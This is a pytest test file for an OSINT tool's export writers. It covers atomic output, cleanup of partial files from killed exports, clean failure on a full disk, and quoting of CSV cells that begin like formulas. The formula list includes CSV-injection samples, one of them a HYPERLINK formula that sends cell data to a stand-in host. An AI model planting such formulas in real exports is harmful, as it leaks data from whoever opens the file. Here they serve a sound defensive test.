"""The one export writer, files that appear whole, a really full disk, and killed exports.

The disk-full tests mount a small tmpfs (as root, which CI is) and fill it to the last byte, so
every write meets a real ENOSPC from the kernel; they skip only where mounting is impossible.
"""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from osint.config import Settings
from osint.errors import DiskFullError
from osint.storage.db import Store
from osint.writers import (
    RecordWriter,
    atomic_output,
    clean_stale_partials,
    csv_cell,
    utc_iso,
)
from tests.casebuild import BuiltCase, build_case
from tests.conftest import CliRun

FORMULAS = ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\t=x", "\r=x", '=HYPERLINK("http://e.x/?"&A1)']


def test_one_time_format_and_formula_safe_cells() -> None:
    assert utc_iso(datetime(2022, 4, 21, 8, 14, tzinfo=UTC)) == "2022-04-21T08:14:00Z"
    assert utc_iso(datetime(2022, 4, 21, 8, 14, 0, 5000)) == "2022-04-21T08:14:00.005000Z"
    assert utc_iso(None) is None
    for text in FORMULAS:
        assert csv_cell(text) == "'" + text
    assert csv_cell(["=a", 1]) == '["=a", 1]' and csv_cell(True) == "true"
    assert csv_cell(-3) == -3 and csv_cell(None) == "" and csv_cell("plain") == "plain"
    out = io.StringIO()
    writer = RecordWriter(out, "jsonl", ["a", "when"])
    writer.write({"a": "=1+1", "when": datetime(2022, 1, 1, tzinfo=UTC)})
    assert json.loads(out.getvalue()) == {"a": "=1+1", "when": "2022-01-01T00:00:00Z"}


def test_atomic_output_leaves_nothing_on_failure(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    with pytest.raises(RuntimeError), atomic_output(target) as out:
        out.write(b"half")
        raise RuntimeError("boom")
    assert list(tmp_path.iterdir()) == []
    with atomic_output(target) as out:
        out.write(b"whole")
    assert target.read_bytes() == b"whole" and list(tmp_path.iterdir()) == [target]
    assert oct(target.stat().st_mode & 0o777) == "0o644"


# -- killed exports -----------------------------------------------------------------------------
_WRITER = """
import sys, time
from pathlib import Path
from osint.writers import atomic_output
with atomic_output(Path(sys.argv[1])) as out:
    out.write(b"PK\\x03\\x04 partial")
    print("writing", flush=True)
    time.sleep(120)
"""


def _start_writer(target: Path) -> subprocess.Popen[str]:
    child = subprocess.Popen(
        [sys.executable, "-c", _WRITER, str(target)], stdout=subprocess.PIPE, text=True
    )
    assert child.stdout is not None and child.stdout.readline().strip() == "writing"
    return child


def _partials(folder: Path) -> list[Path]:
    return sorted(p for p in folder.iterdir() if p.name.endswith(".partial"))


def test_a_killed_writers_partial_is_cleaned_a_live_ones_is_not(tmp_path: Path) -> None:
    target = tmp_path / "case.zip"
    child = _start_writer(target)
    try:
        (partial,) = _partials(tmp_path)
        assert partial.name.startswith(".case.zip.")
        assert clean_stale_partials(target, idle=0) == []  # its writer is alive: kept
        assert partial.exists()
    finally:
        child.send_signal(signal.SIGKILL)
        child.wait()
    foreign = tmp_path / ".case.zip.notours1.txt"
    foreign.write_text("someone else's")
    other = tmp_path / ".other.zip.abcdefgh.partial"
    other.write_text("another export's")
    assert clean_stale_partials(target, idle=3600) == []  # too recent to judge
    assert clean_stale_partials(target, idle=0) == [partial]
    assert not partial.exists() and foreign.exists() and other.exists()


def test_the_next_bundle_export_removes_a_killed_ones_partial(
    store: Store, settings: Settings, run_cli: CliRun, tmp_path: Path
) -> None:
    built = build_case(store, settings)
    target = tmp_path / "out" / "case.zip"
    target.parent.mkdir()
    child = _start_writer(target)
    child.send_signal(signal.SIGKILL)
    child.wait()
    (partial,) = _partials(target.parent)
    legacy = target.parent / ".case.zip.k3j4h5g6"  # the name osint used before
    legacy.write_bytes(b"PK\x03\x04")
    old = time.time() - 3600
    for path in (partial, legacy):
        os.utime(path, (old, old))
    run_cli("export", "bundle", "--case", built.name, "-o", str(target))
    assert sorted(p.name for p in target.parent.iterdir()) == ["case.zip"]


# -- a really full disk -------------------------------------------------------------------------
@pytest.fixture
def full_disk(tmp_path: Path) -> Iterator[Path]:
    """A 1 MiB tmpfs filled to its last byte; unmounted afterwards."""
    mount = tmp_path / "small"
    mount.mkdir()
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=1m,nr_inodes=200", "osint-full", str(mount)],
        capture_output=True,
        text=True,
    )
    if done.returncode != 0:
        pytest.skip(f"cannot mount a small file system here: {done.stderr.strip()}")
    try:
        out = mount / "exports"
        out.mkdir()
        fd = os.open(mount / "filler", os.O_WRONLY | os.O_CREAT, 0o600)
        try:
            for block in (65536, 4096, 1):  # down to the last byte
                try:
                    while os.write(fd, b"\0" * block) == block:
                        pass
                except OSError:
                    pass
        finally:
            os.close(fd)
        assert os.statvfs(mount).f_bavail == 0
        yield out
    finally:
        subprocess.run(["umount", "-l", str(mount)], check=False)


EXPORTS = [
    ("report", ["report", "-o", "{out}/report.html"]),
    ("posts.jsonl", ["export", "posts", "-o", "{out}/posts.jsonl"]),
    ("posts.csv", ["export", "posts", "--format", "csv", "-o", "{out}/posts.csv"]),
    ("events.csv", ["export", "events", "--format", "csv", "-o", "{out}/events.csv"]),
    ("images.csv", ["export", "images", "--format", "csv", "-o", "{out}/images.csv"]),
    ("findings", ["export", "findings", "-o", "{out}/findings.jsonl"]),
    ("coordination", ["export", "coordination", "-o", "{out}/pairs.csv"]),
    ("network.gexf", ["export", "network", "--format", "gexf", "-o", "{out}/n.gexf"]),
    ("network.csv", ["export", "network", "--format", "csv", "-o", "{out}/n.csv"]),
    ("bundle", ["export", "bundle", "-o", "{out}/case.zip"]),
    ("wacz", ["export", "wacz", "-o", "{out}/case.wacz"]),
]


@pytest.fixture
def built(store: Store, settings: Settings) -> BuiltCase:
    return build_case(store, settings)


@pytest.mark.parametrize(("what", "argv"), EXPORTS, ids=[e[0] for e in EXPORTS])
def test_every_export_on_a_full_disk_fails_clearly_and_leaves_nothing(
    built: BuiltCase, run_cli: CliRun, full_disk: Path, what: str, argv: list[str]
) -> None:
    args = [a.format(out=full_disk) for a in argv]
    target = Path(next(a for a in args if a.startswith(str(full_disk))))
    if what in ("coordination", "network.gexf", "network.csv"):  # they read a stored run
        run_cli("analyze", "coordination", "--case", built.name, "--window", "3600")
    failed = run_cli(*args, "--case", built.name, expect=DiskFullError.exit_code)
    line = failed.stderr.strip().splitlines()[-1]
    assert line.startswith("error: disk full: ") and f"bytes needed at {target}" in line, line
    assert "unexpected" not in failed.stderr
    assert list(full_disk.iterdir()) == []  # no file under the final name, no partial either


def test_the_error_edge_names_a_full_disk_anywhere(full_disk: Path, tmp_path: Path) -> None:
    """A store, or a data folder, on the full disk: the clear line, never 'unexpected'."""
    store_on_full = CliRun(full_disk.parent / "home", f"sqlite:///{full_disk.parent}/osint.db")
    failed = store_on_full("case", "new", "c", expect=DiskFullError.exit_code)
    assert failed.stderr.startswith("error: disk full: ") and "unexpected" not in failed.stderr
    # The database elsewhere, the data folder (media store, WARC files) on the full disk: the
    # import keeps the imported file as evidence there, and that write fails.
    home_on_full = CliRun(full_disk / "home", f"sqlite:///{tmp_path / 'osint.db'}")
    shares = tmp_path / "shares.csv"
    shares.write_text("object_id,account_id,content_id,timestamp_share\no1,a1,c1,1650530000\n")
    home_on_full("case", "new", "c", expect=None)
    failed = home_on_full("import", "shares", str(shares), "--case", "c", expect=None)
    assert failed.exit_code == DiskFullError.exit_code, failed.stderr
    assert failed.stderr.startswith("error: disk full: ") and "unexpected" not in failed.stderr


def test_disk_full_csv_is_read_by_nothing_half_written(
    built: BuiltCase, run_cli: CliRun, tmp_path: Path
) -> None:
    """The same export with room to spare writes the whole file (the control for the above)."""
    out = tmp_path / "posts.csv"
    run_cli("export", "posts", "--case", built.name, "--format", "csv", "-o", str(out))
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert len(rows) == len(built.post_ids)
